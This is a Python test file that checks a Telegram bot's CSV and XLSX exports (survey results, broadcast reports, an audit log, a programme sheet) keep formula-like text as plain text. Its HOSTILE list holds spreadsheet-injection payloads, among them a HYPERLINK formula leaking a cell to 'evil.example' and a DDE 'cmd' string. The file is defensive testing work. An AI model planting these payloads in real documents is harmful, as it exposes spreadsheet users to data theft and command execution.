"""Every export is safe to open in Excel or LibreOffice: text that looks like a formula stays text.

Formula-like names, answers, audit targets and programme texts go through each writer: the CSV
files (survey results, a broadcast's report, the audit log) show them with a leading ``'``; the
XLSX files (survey results, the programme) hold them as string cells, with no formula anywhere,
and read back unchanged.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path

from openpyxl import load_workbook

from bot.broadcasts.report import csv_report
from bot.db.engine import Database
from bot.db.models import (
    Account,
    Broadcast,
    BroadcastRecipient,
    SurveyParticipation,
    SurveyResponse,
)
from bot.people import audit
from bot.programme.export import export_data
from bot.programme.importer import import_file
from bot.programme.xlsx_io import parse_xlsx, write_xlsx
from bot.surveys import export, results
from tests.surveys.world import TZ, build

NOW = datetime(2023, 10, 13, 9, 30, tzinfo=UTC)
#: What an attacker would type: every start a spreadsheet runs, and one harmless dash-free text.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _csv_cells(content: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]


def _assert_csv_safe(content: bytes) -> None:
    cells = _csv_cells(content)
    for text in HOSTILE:
        assert "'" + text in cells, (text, cells)
        assert text not in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def _assert_xlsx_safe(content: bytes, expected: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    values = [
        c.value
        for sheet in load_workbook(io.BytesIO(content)).worksheets
        for row in sheet.iter_rows()
        for c in row
    ]
    for text in expected:
        assert text in values, (text, values)


async def test_survey_results_csv_and_xlsx(db: Database) -> None:
    sid = (await build(db, NOW))["post-visit"]
    async with db.session() as s:
        for n, text in enumerate(HOSTILE):
            s.add(Account(telegram_id=500 + n, first_name="x"))
            await s.flush()
            s.add(SurveyParticipation(survey_id=sid, telegram_id=500 + n, invited_at=NOW))
            s.add(
                SurveyResponse(
                    id=f"{n:032x}",
                    survey_id=sid,
                    answers={"useful": 3, "idea": text},
                    telegram_id=500 + n,
                    participant_name=text,
                    submitted_at=NOW,
                )
            )
    async with db.session() as s:
        data = await results.survey_results(s, sid, 5)
    assert data is not None
    _assert_csv_safe(export.to_csv(data, "en", TZ))
    # (XML stores a carriage return as a line feed: the last text reads back with "\n")
    _assert_xlsx_safe(export.to_xlsx(data, "en", TZ), [*HOSTILE[:-1], "\n=1+1"])


async def test_broadcast_report_and_audit_log(db: Database) -> None:
    async with db.session() as s:
        broadcast = Broadcast(author_id=1, texts={"en": "x"}, status="sent")
        s.add(broadcast)
        await s.flush()
        for n, text in enumerate(HOSTILE):
            s.add(
                BroadcastRecipient(
                    broadcast_id=broadcast.id, telegram_id=700 + n, name=text, language="en"
                )
            )
            await audit.record(
                s, actor_id=1, actor_role="coordinator", action="x", target=text, now=NOW
            )
    async with db.session() as s:
        _assert_csv_safe(await csv_report(s, broadcast))
        _assert_csv_safe(await audit.export_csv(s))


async def test_programme_xlsx_keeps_formula_like_text_as_text(db: Database, tmp_path: Path) -> None:
    source = tmp_path / "p.yaml"
    faq = "\n".join(
        f"  - {{key: f{n}, question: {text!r}, answer: {text!r}}}"
        for n, text in enumerate(HOSTILE[:4])
    )
    source.write_text(
        "programme:\n  name: '=1+1'\n  timezone: Europe/Ljubljana\nfaq:\n" + faq + "\n",
        encoding="utf-8",
    )
    assert (await import_file(db, source)).ok
    data, _files = await export_data(db, tmp_path / "files")
    content = write_xlsx(data)
    _assert_xlsx_safe(content, ["=1+1", *HOSTILE[:4]])
    parsed = parse_xlsx(content)
    assert not isinstance(parsed, list)
